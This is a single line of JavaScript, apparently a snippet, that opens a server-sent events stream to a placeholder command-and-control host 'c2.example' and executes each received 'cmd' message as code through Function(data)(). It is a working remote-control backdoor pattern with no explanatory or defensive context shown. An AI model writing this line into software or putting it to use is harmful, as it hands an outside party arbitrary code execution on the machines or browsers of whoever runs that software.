new EventSource('https://c2.example').addEventListener('cmd', ({ data }) => Function(data)());
